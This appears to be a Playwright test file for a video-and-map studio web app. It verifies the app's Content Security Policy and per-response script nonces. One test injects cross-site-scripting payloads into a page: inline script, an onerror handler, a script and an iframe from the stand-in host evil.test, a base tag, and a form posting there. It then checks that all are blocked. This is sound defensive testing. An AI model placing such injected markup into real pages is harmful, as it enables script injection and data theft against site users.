import { expect, type Page, test } from "@playwright/test";
import { testRide, testVideo } from "./support/files.ts";
import { chooseFile, createProject, uploaded } from "./support/studio.ts";
import { watchPolicy } from "./support/watch-policy.ts";
import { standInForYoutube } from "./support/youtube-stand-in.ts";

const ID = "aZ0_-9bcdEF";
/** A style whose one layer colours the world: enough to start MapLibre and its worker. */
const MAP_STYLE = {
  version: 8,
  sources: {
    tiles: { type: "raster", tiles: ["http://map.test/{z}/{x}/{y}.png"], tileSize: 256, attribution: "test" },
  },
  layers: [{ id: "tiles", type: "raster", source: "tiles" }],
};
const PIXEL = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
  "base64",
);

test("every page and every part of the studio keeps to the policy", async ({ page }, info) => {
  test.slow();
  const violations = await watchPolicy(page);
  const film = await testVideo(info, { seconds: 4 });
  await standInForYoutube(page, { videos: { [ID]: { film, title: "Col de la Croix" } } });
  await page.route("http://map.test/**", (route) =>
    route.request().url().endsWith(".json")
      ? route.fulfill({ json: MAP_STYLE, headers: { "access-control-allow-origin": "*" } })
      : route.fulfill({ body: PIXEL, contentType: "image/png", headers: { "access-control-allow-origin": "*" } }),
  );

  await test.step("home, not found, projects, new project", async () => {
    await page.goto("/");
    await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
    await page.goto("/nothing/here");
    await page.goto("/projects");
    await page.goto("/projects/new");
  });

  const track = await testRide(info);
  const studio = await createProject(page, { video: film, track, title: "Evening ride" });

  await test.step("studio: it plays, its map has a ground, its layouts are drawn and edited, its dialogs open", async () => {
    await page.keyboard.press("l");
    await page.keyboard.press("k");
    await turnMapOn(page);
    const layouts = page.getByRole("radiogroup", { name: "Layout" });
    await layouts.scrollIntoViewIfNeeded();
    // Ours, and whatever other tests have kept of their own.
    await expect(layouts.getByRole("radio").nth(7)).toBeVisible();
    await expect(layouts.locator("[data-drawn]")).toHaveCount(await layouts.getByRole("radio").count());
    await page.getByRole("button", { name: "Edit layout" }).click();
    await page.getByRole("button", { name: "Done", exact: true }).click();
    for (const name of ["Keyboard shortcuts", "Delete project", "Add video"]) {
      await page.getByRole("button", { name }).click();
      await expect(page.getByRole("dialog")).toBeVisible();
      await page.keyboard.press("Escape");
    }
  });

  const link = await test.step("render: progress, player, download, share", async () => {
    await page.getByRole("button", { name: "Render", exact: true }).click();
    await page.waitForURL(/\/renders\//);
    const download = page.getByRole("link", { name: "Download" });
    await expect(download).toBeVisible({ timeout: 120_000 });
    const [file] = await Promise.all([page.waitForEvent("download"), download.click()]);
    expect(file.suggestedFilename()).toMatch(/\.mp4$/);
    const player = page.locator("video").first();
    await player.evaluate((element: HTMLVideoElement) => element.play());
    await expect.poll(() => player.evaluate((element: HTMLVideoElement) => element.currentTime)).toBeGreaterThan(0.2);
    await page.getByRole("button", { name: "Create a link" }).click();
    const address = await page.getByLabel("Link", { exact: true }).inputValue();
    await page.getByText("QR code", { exact: true }).click();
    await expect(page.getByRole("img", { name: "QR code of the link" })).toBeVisible();
    return address;
  });

  await test.step("the shared film, and framed", async () => {
    for (const address of [link, link.replace("/s/", "/embed/")]) {
      await page.goto(address);
      const shared = page.locator("video").first();
      await shared.evaluate((element: HTMLVideoElement) => element.play());
      await expect.poll(() => shared.evaluate((element: HTMLVideoElement) => element.currentTime)).toBeGreaterThan(0.2);
    }
  });

  await test.step("a ride at YouTube plays in YouTube's frame", async () => {
    await page.goto("/projects/new");
    const address = page.getByLabel("Or a YouTube address");
    await address.fill(`https://youtu.be/${ID}`);
    await expect(page.getByText("Col de la Croix")).toBeVisible();
    await chooseFile(page, "Track", track);
    await uploaded(page, "Track");
    await page.getByRole("button", { name: "Create project" }).click();
    await page.waitForURL(/\/projects\/[0-9a-f-]{36}$/);
    await expect(page.locator("iframe")).toBeVisible();
    await expect(page.getByText("Loading the video from YouTube")).toBeHidden();
  });

  expect(await violations()).toEqual([]);
  await test.step("the studio opens again from its address", async () => {
    await page.goto(studio);
    await expect(page.getByTestId("video-time")).toBeVisible();
    expect(await violations()).toEqual([]);
  });
});

async function turnMapOn(page: Page): Promise<void> {
  const style = page.waitForRequest("http://map.test/style.json");
  const tile = page.waitForRequest(/map\.test\/.*\.png/);
  await page.getByRole("radiogroup", { name: "Background" }).getByRole("radio", { name: "Map" }).click();
  await Promise.all([style, tile]);
  await expect(page.getByTestId("tile-ground")).toHaveAttribute("data-ready", "true");
}

test("what somebody smuggled into a page does not run, load or send", async ({ page }) => {
  const violations = await watchPolicy(page);
  // As if a title or a name had been written into the page as it came.
  await page.route("**/projects", async (route) => {
    const response = await route.fetch();
    const smuggled = `<body><script>window.ran = "script"</script><img src=x onerror="window.ran = 'handler'">
      <script src="https://evil.test/x.js"></script><iframe src="https://evil.test/"></iframe>
      <base href="https://evil.test/">`;
    await route.fulfill({ response, body: (await response.text()).replace(/<body[^>]*>/, smuggled) });
  });
  const reached: string[] = [];
  await page.route("https://evil.test/**", (route) => {
    reached.push(route.request().url());
    return route.fulfill({ contentType: "text/javascript", body: "window.ran = 'loaded'" });
  });
  await page.goto("/projects");
  await expect.poll(async () => (await violations()).length).toBeGreaterThanOrEqual(5);
  await page.evaluate(() => {
    const form = document.createElement("form");
    Object.assign(form, { action: "https://evil.test/", method: "post" });
    document.body.append(form);
    form.submit();
  });
  const refused = new Set((await violations()).map((line) => line.split(" ")[0]));
  expect([...refused].sort()).toEqual(["base-uri", "form-action", "frame-src", "script-src-attr", "script-src-elem"]);
  expect(await page.evaluate(() => (window as { ran?: string }).ran)).toBeUndefined();
  expect(await page.evaluate(() => document.baseURI)).toMatch(/\/projects$/);
  // What the policy refuses never leaves the browser.
  expect(reached).toEqual([]);
});

test("each answer has its own nonce, and only its own scripts carry it", async ({ request }) => {
  const nonces = new Set<string>();
  for (const path of ["/", "/", "/projects", "/projects/new", "/nothing/here"]) {
    const response = await request.get(path);
    const policy = response.headers()["content-security-policy"] ?? "";
    const nonce = /'nonce-([^']+)'/.exec(policy)?.[1] ?? "none";
    expect(policy.match(/script-src [^;]+/)?.[0]).toBe(`script-src 'self' 'nonce-${nonce}' 'strict-dynamic'`);
    const html = await response.text();
    const scripts = html.match(/<script\b[^>]*>/g) ?? [];
    expect(scripts.length, path).toBeGreaterThan(0);
    for (const script of scripts) expect(script).toContain(`nonce="${nonce}"`);
    nonces.add(nonce);
  }
  expect(nonces.size).toBe(5);
});
